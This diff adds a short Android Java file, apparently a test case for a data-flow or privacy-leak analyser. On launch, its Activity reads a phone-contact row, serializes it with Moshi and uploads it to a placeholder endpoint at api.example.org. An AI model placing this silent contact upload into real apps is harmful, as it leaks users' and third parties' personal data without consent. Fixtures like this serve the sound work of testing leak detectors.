@@ -1,0 +1,37 @@
+// A bean, written by a Moshi adapter.
+package cases.flow_moshi;
+
+import android.app.Activity;
+import android.database.Cursor;
+import android.os.Bundle;
+import android.provider.ContactsContract;
+import android.util.Log;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.HttpURLConnection;
+import java.net.URL;
+
+public final class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
+        rows.moveToFirst();
+        Person person = new Person(rows.getString(0));
+        com.squareup.moshi.JsonAdapter<Person> adapter = new com.squareup.moshi.Moshi.Builder().build().adapter(Person.class);
+        try {
+            send(adapter.toJson(person).getBytes());
+        } catch (IOException e) {
+            Log.w("upload", "later");
+        }
+    }
+
+    static void send(byte[] body) throws IOException {
+        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.org/v1/contacts").openConnection();
+        connection.setDoOutput(true);
+        OutputStream out = connection.getOutputStream();
+        out.write(body);
+        out.close();
+        connection.getInputStream().close();
+    }
+}
